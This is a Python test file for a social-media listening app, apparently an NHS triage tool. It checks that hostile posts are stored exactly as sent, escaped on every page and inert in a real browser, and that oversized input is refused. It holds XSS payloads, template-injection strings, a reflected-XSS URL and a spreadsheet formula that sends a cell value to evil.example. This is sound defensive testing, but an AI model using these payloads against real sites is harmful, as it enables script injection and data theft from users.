"""Hostile posts: stored exactly as sent, shown as text and never run; oversized input refused plainly.

The posts arrive the way real ones do — published on the fake X API and Graph API, polled by
the worker with the real connectors and the real triage — and are then read back from the
database, the JSON API, the FOI export and every page that shows them, in a real browser too.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fastapi import FastAPI
from pydantic import SecretStr
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from connectors.facebook import fake as graph
from connectors.facebook.fake import FakeGraphApi
from connectors.x.fake import FakeXApi
from listener.accounts import users
from listener.reports import foi
from listener.settings import Settings
from listener.store.db import make_engine, write_transaction
from listener.store.migrate import upgrade
from listener.store.models import Incident, Mention, QueueItem, Source
from listener.worker import Worker
from queue_ui.app import MAX_BODY_BYTES, create_app
from queue_ui.serve import serve_in_thread
from tests.conftest import TEST_PASSWORD, chromium_path
from tests.queue_ui.conftest import SECRET, UiClient, sign_in

PAGE_ID = "104729318865221"
X_BEARER = "AAAAAAAAAAAAAAAAAAAAAhostileInputBearer1"
PAGE_TOKEN = "EAAGhostileInputPageToken00000000001"
APP_SECRET = "hostileinputappsecret00000000001"

# Each would run script, load something or restyle the page if it reached the HTML unescaped.
HOSTILE = {
    "script": "<script>window.__pwned=1;alert(1)</script> is the walk-in centre open?",
    "img": '<img src=x onerror="window.__pwned=2;alert(2)"> my appointment letter',
    "link": '<a href="javascript:window.__pwned=3;alert(3)">see this</a> and javascript:alert(4)',
    "svg": '<svg onload="window.__pwned=5;alert(5)"><circle r="9"/></svg> cancelled again',
    "attribute": '" onmouseover="window.__pwned=6" data-x=" waiting three hours',
    "iframe": '<iframe src="javascript:top.__pwned=7"></iframe><style>body{display:none}</style>',
    "template": "{{ 7*7 }} {% if true %}jinja{% endif %} ${7*7} #{7*7} waiting",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click for your results")',
    "invisible": "zero\u200bwidth\u200djoiner\ufeff bom \u202eright-to-left override\u202c "
    "שלום مرحبا 👨‍👩‍👧 🇬🇧",
    "long": ("Waiting times at the walk-in centre are far too long and nobody answers the phone. " * 130)[
        :10_000
    ],
}
# What the posts above would put in a page if a template forgot to escape them.
MARKERS = [
    "<script>window",
    "<img src=x",
    "<svg onload",
    "<iframe",
    "<style>body",
    'href="javascript:',
    'onmouseover="window',
]


# What a page would show if something hostile got through: a set flag, a refused script, an event
# handler attribute, or an element no template of ours writes.
STATE_OF_THE_PAGE = """() => ({
    pwned: window.__pwned ?? null,
    violations: window.__violations,
    handlers: [...document.querySelectorAll('*')].flatMap(
        e => [...e.attributes].filter(a => a.name.startsWith('on')).map(a => e.tagName + ' ' + a.name)),
    injected: document.querySelectorAll(
        'script:not([src]), iframe, style, main img[src=x], main svg[onload], a[href^="javascript:" i]'
    ).length,
})"""


@dataclass
class Hostile:
    app: FastAPI
    engine: Engine
    x_texts: dict[str, str]  # case -> the text the stored X mention must carry
    fb_texts: dict[str, str]
    items: dict[str, int]  # case -> queue item id (X)
    incident_id: int
    admin_email: str


def hostile_settings(x: FakeXApi, graph_fake: FakeGraphApi) -> Settings:
    settings = Settings.model_validate(
        {
            "accounts": [
                {"platform": "x", "handle": "NHSCovWarks"},
                {"platform": "facebook", "handle": PAGE_ID},
            ],
            "sources": [
                {"key": "x:mentions:@NHSCovWarks", "api_base_url": x.base_url},
                {"key": f"facebook:page:{PAGE_ID}", "api_base_url": graph_fake.base_url},
            ],
            "polling": {"jitter_seconds": 0},
            "media": {"include_default_list": False},
        }
    )
    settings.secrets = settings.secrets.model_copy(
        update={
            "session_secret": SecretStr(SECRET),
            "x_bearer_token": SecretStr(X_BEARER),
            "facebook_page_token": SecretStr(PAGE_TOKEN),
            "facebook_app_secret": SecretStr(APP_SECRET),
        }
    )
    return settings


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """Hostile posts on X and Facebook, polled in by the worker; an incident quoting them; a hostile
    source error and a hostile note in the audit log."""
    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'lp.db'}")
    upgrade(engine)
    with (
        FakeXApi(me="NHSCovWarks", tokens={X_BEARER}) as x,
        FakeGraphApi(page_id=PAGE_ID, page_token=PAGE_TOKEN, app_secret=APP_SECRET) as graph_fake,
    ):
        settings = hostile_settings(x, graph_fake)
        x_texts = {case: f"@NHSCovWarks {text}" for case, text in HOSTILE.items()}
        for case, text in x_texts.items():
            x.add_tweet(author=f"resident_{case}", text=text)
        for case, text in HOSTILE.items():
            graph_fake.add_post(text=text, author_name=f"Resident {case}")
        worker = Worker(settings, engine, worker_id="hostile")
        worker.prepare()
        assert worker.poll("x:mentions:@NHSCovWarks").new == len(HOSTILE)  # type: ignore[union-attr]
        assert worker.poll(f"facebook:page:{PAGE_ID}").new == len(HOSTILE)  # type: ignore[union-attr]
        # A platform error carrying markup: shown to admins as the reason a source stopped.
        graph_fake.inject(
            graph.graph_error(190, "<script>window.__pwned=8</script>Session expired", status=401),
            path=r"/feed$",
        )
        with write_transaction(engine) as s:  # due again
            for source in s.scalars(select(Source)):
                source.next_poll_at = None
        assert worker.poll(f"facebook:page:{PAGE_ID}").status == "permanent_error"  # type: ignore[union-attr]

    with write_transaction(engine) as s:
        rows = s.execute(
            select(Mention.id, Mention.platform, Mention.text, QueueItem.id).join(QueueItem)
        ).all()
        by_text = {(platform, text): (mention_id, item_id) for mention_id, platform, text, item_id in rows}
        items = {case: by_text[("x", text)][1] for case, text in x_texts.items()}
        incident = Incident(
            episode_key="hostile",
            subject=HOSTILE["script"][:200],
            level="crisis",
            status="listening",
            criteria=["emotive", "legal"],
            evidence={"emotive": [mid for mid, _ in by_text.values()], "legal": []},
            opened_at=datetime.now(UTC) - timedelta(hours=1),
            level_changed_at=datetime.now(UTC) - timedelta(hours=1),
        )
        s.add(incident)
        users.add_user(
            s,
            email="admin@example.nhs.uk",
            name="Ada Admin",
            initials="AA",
            role="admin",
            password=TEST_PASSWORD,
        )
        users.add_user(
            s,
            email="agent@example.nhs.uk",
            name="Al Agent",
            initials="AL",
            role="agent",
            password=TEST_PASSWORD,
        )
        s.flush()
        incident_id = incident.id
    app = create_app(settings, engine, session_secret=SECRET)
    agent = sign_in(app, _user(engine, "agent@example.nhs.uk"))
    # A reason typed by a person is shown in the audit log: it gets the same treatment.
    response = agent.form(f"/items/{items['long']}/no-reply", {"reason": HOSTILE["img"]})
    assert response.status_code == 303, response.text
    yield Hostile(app, engine, x_texts, dict(HOSTILE), items, incident_id, "admin@example.nhs.uk")
    engine.dispose()


def _user(engine: Engine, email: str) -> users.User:
    with Session(engine) as s:
        return s.scalars(select(users.User).where(users.User.email == email)).one()


def admin_client(hostile: Hostile) -> UiClient:
    return sign_in(hostile.app, _user(hostile.engine, hostile.admin_email))


def test_hostile_posts_are_stored_exactly_as_sent(hostile: Hostile) -> None:
    with Session(hostile.engine) as s:
        stored = {(m.platform, m.text) for m in s.scalars(select(Mention))}
    for case, text in hostile.x_texts.items():
        assert ("x", text) in stored, f"the X post with {case} was changed on the way in"
    for case, text in hostile.fb_texts.items():
        assert ("facebook", text) in stored, f"the Facebook post with {case} was changed on the way in"
    assert len(HOSTILE["long"]) == 10_000


def test_the_api_and_the_foi_export_give_the_text_back_exactly(hostile: Hostile) -> None:
    client = admin_client(hostile)
    for case, item_id in hostile.items.items():
        body = client.get(f"/api/items/{item_id}").json()
        assert body["text"] == hostile.x_texts[case], case
    with Session(hostile.engine) as s:
        lines = "".join(
            foi.export_chunks(s, query=foi.FoiQuery(search="waiting"), fmt="json", timezone="Europe/London")
        )
        exported = {json.loads(line)["text"] for line in lines.splitlines()}
        assert hostile.fb_texts["template"] in exported and hostile.fb_texts["long"] in exported
        csv_text = "".join(
            foi.export_chunks(s, query=foi.FoiQuery(search="HYPERLINK"), fmt="csv", timezone="Europe/London")
        )
    # A spreadsheet would run the formula: the export keeps the text but makes it a string.
    assert "'=HYPERLINK(" in csv_text and ",=HYPERLINK(" not in csv_text


def pages(hostile: Hostile) -> list[str]:
    reflected = "/queue?source=" + "%3Cscript%3Ewindow.__pwned%3D9%3C%2Fscript%3E"
    return [
        "/queue",
        "/queue?tab=closed",
        reflected,
        *(f"/items/{item_id}" for item_id in hostile.items.values()),
        f"/incidents/{hostile.incident_id}",
        "/incidents",
        "/reports/mentions",
        "/audit",
        "/admin/sources",
        "/sign-in?next=javascript:alert(1)",
    ]


def test_every_page_escapes_hostile_text(hostile: Hostile) -> None:
    client = admin_client(hostile)
    for path in pages(hostile):
        page = client.get(path, follow_redirects=True)
        assert page.status_code == 200, path
        body = page.text
        for marker in MARKERS:
            assert marker not in body, f"{path}: {marker!r} reached the HTML unescaped"
    item = client.get(f"/items/{hostile.items['script']}").text
    assert html.escape(hostile.x_texts["script"], quote=False) in item  # shown, as text
    assert "{{ 7*7 }}" in html.unescape(
        client.get(f"/items/{hostile.items['template']}").text
    )  # not evaluated
    assert "&lt;script&gt;window.__pwned=8" in client.get("/admin/sources").text


@pytest.mark.browser
def test_no_hostile_post_runs_script_in_a_browser(hostile: Hostile) -> None:
    chromium = chromium_path()
    if not chromium:
        pytest.skip("browser tests need Debian's chromium (installed by .ci/run)")
    from playwright.sync_api import sync_playwright

    from tests.queue_ui.test_browser import CHROMIUM_ARGS

    with serve_in_thread(hostile.app) as base_url, sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        context = browser.new_context(base_url=base_url)
        # Before any page script: note every dialog and every script the CSP had to refuse.
        context.add_init_script(
            "window.__violations = [];"
            "document.addEventListener('securitypolicyviolation',"
            " e => window.__violations.push(e.violatedDirective));"
        )
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto("/sign-in")
        page.get_by_label("Email address").fill(hostile.admin_email)
        page.get_by_label("Password").fill(TEST_PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(re.compile(r"/queue$"))
        for path in pages(hostile):
            page.goto(path)
            page.locator("main").hover()  # would fire an injected onmouseover
            state = page.evaluate(STATE_OF_THE_PAGE)
            assert state == {"pwned": None, "violations": [], "handlers": [], "injected": 0}, (path, state)
        assert dialogs == []
        page.goto(f"/items/{hostile.items['invisible']}")
        shown = page.locator(".lp-post__text").inner_text()
        assert shown == hostile.x_texts["invisible"]  # zero-width and direction marks kept, in their box
        assert page.locator(".lp-post__text").evaluate("e => getComputedStyle(e).unicodeBidi") == "plaintext"
        browser.close()


# Oversized input -------------------------------------------------------------------------------


@pytest.fixture
def agent_client(hostile: Hostile) -> UiClient:
    return sign_in(hostile.app, _user(hostile.engine, "agent@example.nhs.uk"))


@pytest.mark.parametrize(
    ("path", "field", "size"),
    [
        ("/items/{item}/reply", "text", 20_000),
        ("/items/{item}/no-reply", "reason", 5_000),
        ("/items/{item}/lint", "text", 20_000),
    ],
)
def test_an_oversized_form_field_is_refused_with_a_clear_message(
    hostile: Hostile, agent_client: UiClient, path: str, field: str, size: int
) -> None:
    value = "secret-ish " * (size // 11 + 1)
    response = agent_client.form(path.format(item=hostile.items["script"]), {field: value})
    assert response.status_code == 422
    assert "There is a problem" in response.text and field in response.text
    assert "secret-ish" not in response.text  # the input is never echoed back


def test_an_oversized_api_field_is_refused_with_a_clear_message(
    hostile: Hostile, agent_client: UiClient
) -> None:
    response = agent_client.api(
        "PUT", f"/api/items/{hostile.items['script']}/draft", json={"text": "x" * 20_000}
    )
    assert response.status_code == 422
    assert response.json()["detail"][0]["field"] == "text" and "x" * 100 not in response.text


def test_an_upload_is_refused_before_it_is_read(
    hostile: Hostile, agent_client: UiClient, tmp_path: Path
) -> None:
    big = tmp_path / "scan.pdf"
    big.write_bytes(b"%PDF-1.7\n" + b"0" * (MAX_BODY_BYTES * 4))
    with big.open("rb") as fh:
        response = agent_client.post(
            f"/items/{hostile.items['script']}/reply",
            data={"text": "see attached", "csrf_token": agent_client.csrf},
            files={"attachment": ("scan.pdf", fh, "application/pdf")},
            follow_redirects=False,
        )
    assert response.status_code == 413 and "too large" in response.text


def test_a_streamed_body_without_a_length_is_cut_off_too(hostile: Hostile, agent_client: UiClient) -> None:
    def chunks() -> Iterator[bytes]:
        yield f"csrf_token={agent_client.csrf}&text=".encode()
        for _ in range(64):
            yield b"a" * 16_384

    response = agent_client.post(
        f"/items/{hostile.items['script']}/reply",
        content=chunks(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        follow_redirects=False,
    )
    assert response.status_code == 413 and "too large" in response.text


def test_a_form_with_thousands_of_parts_is_refused_plainly(hostile: Hostile, agent_client: UiClient) -> None:
    files = [("f", (f"{n}.txt", b"x", "text/plain")) for n in range(1_500)]
    response = agent_client.post(
        f"/items/{hostile.items['script']}/reply",
        data={"text": "hi", "csrf_token": agent_client.csrf},
        files=files,
        follow_redirects=False,
    )
    assert response.status_code == 400 and "Too many files" in response.text
